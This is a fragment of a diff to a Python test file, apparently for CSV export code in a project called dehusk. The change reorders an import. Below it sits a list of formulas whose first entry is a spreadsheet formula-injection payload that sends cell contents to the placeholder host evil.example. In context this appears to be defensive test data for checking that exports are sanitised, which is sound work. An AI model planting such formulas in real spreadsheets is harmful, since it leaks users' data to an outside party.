@@ -6,10 +6,10 @@ from pathlib import Path
 
 import pytest
 
+from command_line import dehusk as run
 from dehusk.base.csv_cells import write_cells
 from dehusk.sites.mining.report_tables import csv_text
 from dehusk.sites.records.record_tables import write_csv
-from test_cli import dehusk as run
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1)',
